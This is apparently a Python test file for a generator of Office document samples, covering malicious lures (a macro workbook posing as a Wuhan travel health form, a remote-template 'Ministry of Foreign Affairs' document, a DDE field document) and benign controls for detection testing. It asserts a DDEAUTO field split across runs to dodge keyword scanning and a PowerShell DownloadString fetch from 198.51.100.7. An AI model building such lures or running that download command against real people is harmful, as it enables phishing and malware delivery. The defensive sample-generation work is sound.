"""OOXML packages: well-formed parts, content types, relationships, template and DDE lures."""

from __future__ import annotations

import io
import re
import zipfile
from pathlib import Path
from xml.etree import ElementTree as ET

import pytest

from samplegen import build, office

PKG_RELS = "{http://schemas.openxmlformats.org/package/2006/relationships}Relationship"
CT_NS = "{http://schemas.openxmlformats.org/package/2006/content-types}"
W = "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}"

PACKAGES = {
    "lure.xlsm": build.lure_xlsm,
    "benign.xlsx": build.benign_xlsx,
    "benign-macro.xlsm": build.benign_xlsm,
    "remote-template.docx": build.remote_template_docx,
    "benign-template.docx": build.benign_template_docx,
    "dde-field.docx": build.dde_docx,
    "benign-field.docx": build.benign_field_docx,
}


def _zip(data: bytes) -> zipfile.ZipFile:
    return zipfile.ZipFile(io.BytesIO(data))


def _rels(zf: zipfile.ZipFile, part: str) -> list[dict[str, str]]:
    return [dict(r.attrib) for r in ET.fromstring(zf.read(part)).iter(PKG_RELS)]


@pytest.mark.parametrize("name", sorted(PACKAGES))
def test_package_is_valid_opc(name: str) -> None:
    zf = _zip(PACKAGES[name]())
    assert zf.testzip() is None
    names = zf.namelist()
    assert names[0] == "[Content_Types].xml"
    for part in names:
        if part.endswith((".xml", ".rels")):
            ET.fromstring(zf.read(part))  # well-formed
    types = ET.fromstring(zf.read("[Content_Types].xml"))
    overrides = {o.attrib["PartName"]: o.attrib["ContentType"] for o in types.iter(CT_NS + "Override")}
    defaults = {d.attrib["Extension"]: d.attrib["ContentType"] for d in types.iter(CT_NS + "Default")}
    for part in names:
        if part != "[Content_Types].xml":
            assert "/" + part in overrides or part.rsplit(".", 1)[-1] in defaults, part
    # every internal relationship target exists
    for rels_part in [n for n in names if n.endswith(".rels")]:
        base = rels_part.replace("_rels/", "").removesuffix(".rels").rsplit("/", 1)[0]
        base = "" if "/" not in rels_part.replace("_rels/", "", 1) else base + "/"
        for rel in _rels(zf, rels_part):
            if rel.get("TargetMode") == "External":
                continue
            assert base + rel["Target"] in names, (rels_part, rel)
    core = ET.fromstring(zf.read("docProps/core.xml"))
    tags = {el.tag.split("}")[1]: el.text for el in core}
    assert tags["creator"]
    assert tags["lastModifiedBy"]


def test_xlsm_structure() -> None:
    zf = _zip(build.lure_xlsm())
    types = zf.read("[Content_Types].xml").decode()
    assert office.CT_XLSM in types
    assert 'Extension="bin" ContentType="application/vnd.ms-office.vbaProject"' in types
    rels = _rels(zf, "xl/_rels/workbook.xml.rels")
    assert {"Type": office.REL_VBA, "Target": "vbaProject.bin", "Id": "rId4"} in rels
    assert zf.read("xl/vbaProject.bin")[:8] == bytes.fromhex("D0CF11E0A1B11AE1")
    shared = zf.read("xl/sharedStrings.xml").decode()
    for text in ("姓名", "身份证号", "近14天是否到过武汉", "联系电话", "启用内容"):
        assert text in shared
    assert 'codeName="ThisWorkbook"' in zf.read("xl/workbook.xml").decode()
    core = zf.read("docProps/core.xml").decode()
    assert "<dc:creator>Administrator</dc:creator>" in core
    assert "<cp:lastModifiedBy>user01</cp:lastModifiedBy>" in core


def test_plain_xlsx_has_no_macro_parts() -> None:
    zf = _zip(build.benign_xlsx())
    assert not [n for n in zf.namelist() if "vba" in n.lower()]
    assert office.CT_XLSX in zf.read("[Content_Types].xml").decode()


def test_remote_template_relationship() -> None:
    zf = _zip(build.remote_template_docx())
    assert '<w:attachedTemplate r:id="rId1"/>' in zf.read("word/settings.xml").decode()
    (rel,) = _rels(zf, "word/_rels/settings.xml.rels")
    assert rel["Type"] == office.REL_TEMPLATE
    assert rel["Target"] == build.TEMPLATE_URL
    assert rel["TargetMode"] == "External"
    text = "".join(t.text or "" for t in ET.fromstring(zf.read("word/document.xml")).iter(W + "t"))
    assert "MINISTRY OF FOREIGN AFFAIRS" in text


def test_benign_template_has_no_external_relationship() -> None:
    zf = _zip(build.benign_template_docx())
    assert "word/_rels/settings.xml.rels" not in zf.namelist()
    assert "attachedTemplate" not in zf.read("word/settings.xml").decode()
    assert "<Template>Normal.dotm</Template>" in zf.read("docProps/app.xml").decode()
    for part in [n for n in zf.namelist() if n.endswith(".rels")]:
        assert all(r.get("TargetMode") != "External" for r in _rels(zf, part))


def _instructions(data: bytes) -> str:
    root = ET.fromstring(_zip(data).read("word/document.xml"))
    simple = [el.attrib[W + "instr"] for el in root.iter(W + "fldSimple")]
    return "".join(el.text or "" for el in root.iter(W + "instrText")) + "|".join(simple)


def test_dde_field_split_across_runs() -> None:
    data = build.dde_docx()
    xml = _zip(data).read("word/document.xml").decode()
    assert "DDEAUTO" not in xml, "the keyword must be split across runs"
    assert xml.count("<w:instrText") >= 4
    instr = _instructions(data)
    assert instr.strip() == "DDEAUTO " + build.DDE_COMMAND
    assert "http://198.51.100.7/a.ps1" in instr


def test_benign_fields() -> None:
    instr = _instructions(build.benign_field_docx())
    assert "PAGE" in instr
    assert "DATE" in instr
    assert "DDE" not in instr.upper()


def test_msodde_finds_only_the_lure(tmp_path: Path) -> None:
    msodde = pytest.importorskip("oletools.msodde")
    lure = tmp_path / "dde.docx"
    lure.write_bytes(build.dde_docx())
    benign = tmp_path / "benign.docx"
    benign.write_bytes(build.benign_field_docx())
    found = msodde.process_file(str(lure), msodde.FIELD_FILTER_DDE)
    assert "DDEAUTO" in found
    assert "DownloadString('http://198.51.100.7/a.ps1')" in found
    assert msodde.process_file(str(benign), msodde.FIELD_FILTER_DDE).strip() == ""


def test_docm_builder_carries_vba() -> None:
    vba = build.benign_vba_project()
    data = office.build_document([office.paragraph("Hello")], vba_project=vba)
    zf = _zip(data)
    assert zf.read("word/vbaProject.bin") == vba
    assert office.CT_DOCM in zf.read("[Content_Types].xml").decode()
    assert re.search(r'Target="vbaProject.bin"', zf.read("word/_rels/document.xml.rels").decode())
